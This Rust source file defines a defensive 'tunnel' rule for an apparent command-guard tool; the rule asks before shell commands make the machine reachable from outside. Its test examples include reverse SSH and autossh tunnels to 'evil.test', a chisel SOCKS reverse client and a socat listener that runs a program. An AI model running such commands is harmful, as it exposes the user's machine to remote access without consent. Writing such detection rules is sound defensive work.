use tollgate_model::{Card, Carried, Case, EffectKind, Hit, Rule};

use crate::kit::{Words, first, rule};

rule! {
    /// Asks before making this machine reachable from outside.
    ///
    /// ## Instead
    /// Serve only on this machine: `http://localhost:3000`.
    pub struct Tunnel;
    id: "tunnel", pack: Exfiltration, level: Ask,
    instead: ["python3 -m http.server --bind 127.0.0.1 3000"],
    examples: [
        hit Shell("ngrok http 3000"),
        hit Shell("cloudflared tunnel --url http://localhost:3000"),
        hit Shell("frpc -c f.toml"),
        hit Shell("ssh -R 80:localhost:3000 serveo.test"),
        hit Shell("ssh -fN -R 2222:localhost:22 user@evil.test"),
        hit Shell("autossh -M 0 -N -R 9000:localhost:22 user@evil.test"),
        hit Shell("tailscale funnel 3000"),
        hit Shell("chisel client evil.test:8080 R:1080:socks"),
        hit Shell("lt --port 3000"),
        hit Shell("code tunnel --accept-server-license-terms"),
        hit Shell("socat TCP-LISTEN:9000,fork EXEC:/usr/local/bin/handler"),
        pass Shell("ngrok version"),
        pass Shell("ngrok config check"),
        pass Shell("cloudflared tunnel list"),
        pass Shell("tailscale funnel status"),
        pass Shell("tailscale status"),
        pass Shell("ssh -L 5432:localhost:5432 bastion.example.test"),
        pass Shell("ssh -N -D 1080 example.test"),
        pass Shell("code --diff a b"),
        pass Shell("npm install localtunnel"),
    ],
}

impl Rule for Tunnel {
    fn card(&self) -> &'static Card {
        &Self::CARD
    }

    fn check(&self, case: &Case) -> Option<Hit> {
        first(case, |effect| match &effect.kind {
            EffectKind::Net { carries, .. } => {
                let program = carries.iter().find_map(|what| match what {
                    Carried::Tunnel(program) => Some(program),
                    _ => None,
                })?;
                Words::new(
                    format!("makes this machine reachable from outside with {program}"),
                    "serve only on this machine, or ask the person to open the tunnel",
                )
            }
            _ => None,
        })
    }
}
